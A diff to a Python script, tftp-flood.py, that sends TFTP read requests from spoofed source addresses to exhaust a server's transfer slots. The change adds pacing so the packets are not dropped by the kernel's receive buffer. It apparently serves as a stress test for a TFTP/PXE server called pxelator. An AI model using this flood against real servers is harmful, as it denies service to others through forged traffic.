@@ -6,7 +6,7 @@ for ACKs that never come).
 usage: tftp-flood.py SERVER_IP NET COUNT FILE   -- COUNT RRQs from NET.2..NET.250, each asking
                                                    for timeout 255; prints "sent=N"
 """
-import random, socket, struct, sys
+import random, socket, struct, sys, time
 
 server, net, count, name = sys.argv[1], sys.argv[2], min(int(sys.argv[3]), 5000), sys.argv[4]
 rnd = random.Random(11)
@@ -22,4 +22,9 @@ for i in range(count):
                      socket.inet_aton(src), socket.inet_aton(server))
     s.sendto(ip + udp, (server, 0))
     sent += 1
+    # Bursts of 50 then 20 ms: the attack is on transfer slots, not on the server's socket
+    # buffer (a 600-packet burst overflows the default 208 KiB receive buffer on a slow machine,
+    # and what the kernel drops never reaches pxelator).
+    if sent % 50 == 0:
+        time.sleep(0.02)
 print("sent=%d" % sent)
